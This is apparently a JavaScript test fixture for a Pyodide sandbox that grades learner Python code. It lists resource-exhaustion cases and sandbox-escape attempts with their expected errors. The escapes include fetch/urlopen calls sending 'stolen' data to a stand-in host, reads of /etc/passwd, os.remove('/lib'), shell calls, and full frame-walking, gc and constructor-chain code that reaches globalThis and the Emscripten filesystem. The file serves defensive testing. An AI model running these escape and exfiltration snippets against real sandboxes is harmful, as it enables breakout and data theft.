// What a solution may not do in the page, and what the learner is told.

/** @param {string} lines  the body of the placement function */
const body = (lines) => `def plan_memory_placement(components, device_budget_gb):\n    ${lines.replaceAll('\n', '\n    ')}\n`;

const unlimited = 'import sys\n\nsys.setrecursionlimit(10 ** 9)\n\n\n';

/**
 * `advice`: the sentence's key. `error`: the last line of the traceback; none where the interpreter is gone.
 *
 * @type {Record<string, { code: string, advice: string, error?: RegExp, once?: boolean }>}
 */
export const ACCIDENTS = {
  'an endless flood of output': { code: body('while True:\n    print("x" * 1000)'), advice: 'advice-timeout' },
  'a list that doubles for ever': {
    code: body('rows = [0]\nwhile True:\n    rows += rows'),
    advice: 'advice-exception-MemoryError',
    error: /^MemoryError/,
  },
  'blocks of 100 MB without end': {
    code: body('blocks = []\nwhile True:\n    blocks.append(bytearray(10 ** 8))'),
    advice: 'advice-exception-MemoryError',
    error: /^MemoryError/,
  },
  'one block of 900 MB': {
    code: body('return len(bytearray(9 * 10 ** 8))'),
    advice: 'advice-exception-MemoryError',
    error: /^MemoryError/,
  },
  'deep recursion': {
    code: body('return plan_memory_placement(components, device_budget_gb)'),
    advice: 'advice-exception-RecursionError',
    error: /^RecursionError/,
  },
  'recursion without a limit': {
    code: unlimited + body('return plan_memory_placement(components, device_budget_gb)'),
    advice: 'advice-died-stack',
  },
  'deep recursion inside the interpreter': {
    code: body('import json\nreturn json.loads("[" * 10 ** 6)'),
    advice: 'advice-died-stack',
  },
  'exit()': { code: body('exit()'), advice: 'advice-exception-SystemExit', error: /^SystemExit/ },
  'exit() outside of any function': {
    code: `exit()\n\n\n${body('return {}')}`,
    advice: 'advice-exception-SystemExit',
    error: /^SystemExit/,
  },
  'an exit that skips everything': { code: body('import os\nos._exit(0)'), advice: 'advice-died-crash' },
  'abort()': { code: body('import os\nos.abort()'), advice: 'advice-died-crash' },
};

const notHere = (code, error) => ({ code, advice: 'advice-exception-ImportError', error });
const closed = (kind, code, error) => ({ code, advice: `advice-exception-${kind}`, error });

/** @param {string} elsewhere  the address of another server */
export const reaching = (elsewhere) => ({
  'import js': notHere(body('import js\njs.localStorage.setItem("stolen", "1")'), /^ImportError: js .*cannot reach/),
  'from js, outside of any function': notHere(
    `from js import fetch\n\n\n${body(`fetch("${elsewhere}stolen")`)}`,
    /^ImportError: js .*cannot reach/,
  ),
  'import by name': notHere(body('import importlib\nimportlib.import_module("js").fetch("stolen")'), /^ImportError: js /),
  run_js: notHere(body(`from pyodide.code import run_js\nrun_js("fetch('${elsewhere}stolen')")`), /^ImportError: pyodide/),
  pyodide_js: notHere(body('import pyodide_js\npyodide_js.loadPackage("stolen")'), /^ImportError: pyodide_js /),
  open_url: notHere(body(`from pyodide.http import open_url\nopen_url("${elsewhere}stolen")`), /^ImportError: pyodide/),
  urllib: notHere(
    body(`from urllib.request import urlopen\nurlopen("${elsewhere}stolen")`),
    /^ImportError: urllib.request .*no network/,
  ),
  'http.client': notHere(body('import http.client\nhttp.client.HTTPConnection("127.0.0.1")'), /^ImportError: http.client /),
  requests: notHere(body(`import requests\nrequests.get("${elsewhere}stolen")`), /^ImportError: requests /),
  'a socket': closed(
    'OSError',
    body(`import socket\nsocket.create_connection(("127.0.0.1", ${new URL(elsewhere).port}))`),
    /^OSError: .*no network/,
  ),
  'writing a file': closed('PermissionError', body('open("a.txt", "w").write("x")'), /^PermissionError: .*files/),
  'reading a file': closed('PermissionError', body('return open("/etc/passwd").read()'), /^PermissionError: .*files/),
  'a file by its path': closed(
    'PermissionError',
    body('from pathlib import Path\nPath("x").write_text("x")'),
    /^PermissionError: .*files/,
  ),
  'removing a file': closed('PermissionError', body('import os\nos.remove("/lib")'), /^PermissionError: .*files/),
  'another program': closed('OSError', body('import subprocess\nsubprocess.run(["ls"])'), /^OSError: /),
  'a shell': closed('OSError', body('import os\nos.system("ls")'), /^OSError: .*other programs/),
  'input()': closed('EOFError', body('input()'), /^EOFError/),
});

/**
 * Ways past the friendly layer: through the frames, the collector and the finders of Pyodide itself. Each
 * prints what it got hold of; `GOT` would be a way out.
 *
 * @param {string} elsewhere
 */
export const digging = (elsewhere) => ({
  'the function that hands events over': `
import sys


def plan_memory_placement(components, device_budget_gb):
    frame, found = sys._getframe(), []
    while frame:
        found += [value for value in frame.f_locals.values() if "JsProxy" in str(type(value).__mro__)]
        run = frame.f_locals.get("self")
        found += [getattr(run, name) for name in ("emit", "emit_text") if hasattr(run, name)]
        frame = frame.f_back
    print(len(found), "handles")
    for handle in found:
        for path in (["constructor"], ["__proto__", "constructor"], ["constructor", "constructor"]):
            step = handle
            try:
                for name in path:
                    step = getattr(step, name)
                scope = step("return globalThis")()
                print("GOT", scope)
                scope.fetch("${elsewhere}stolen")
            except BaseException as error:
                print(type(error).__name__)
    return {}
`,
  'whatever the collector knows': `
import gc


def plan_memory_placement(components, device_budget_gb):
    print("looking")
    wanted = ("fetch", "indexedDB", "XMLHttpRequest", "WebSocket", "caches", "postMessage", "importScripts", "Worker")
    for thing in gc.get_objects():
        if "JsProxy" in str(type(thing).__mro__):
            for name in wanted:
                try:
                    if name in dir(thing):
                        print("GOT", name)
                        getattr(thing, name)("${elsewhere}stolen")
                except BaseException as error:
                    print(type(error).__name__)
    return {}
`,
  'the finders of imports': `
import sys


def plan_memory_placement(components, device_budget_gb):
    for finder in sys.meta_path:
        for name, module in (getattr(finder, "jsproxies", None) or {}).items():
            print(name)
            for use in (
                lambda: module.fetch("${elsewhere}stolen"),
                lambda: module.localStorage.setItem("stolen", "1"),
                lambda: module.indexedDB.open("stolen"),
                lambda: module.loadPackage("${elsewhere}stolen.whl"),
                lambda: module._module.FS.createLazyFile("/", "lazy", "${elsewhere}stolen", True, False),
                lambda: print("GOT", module._module.FS.readFile("/lazy")),
                lambda: module._module.FS.mount(module._module.FS.filesystems.IDBFS, {}, "/stolen"),
                lambda: module._module.FS.syncfs(True, print),
                lambda: print("GOT", module.constructor.constructor("return globalThis")()),
                lambda: print("GOT", module._api.config.jsglobals.fetch),
            ):
                try:
                    use()
                except BaseException as error:
                    print(type(error).__name__)
    return {}
`,
});
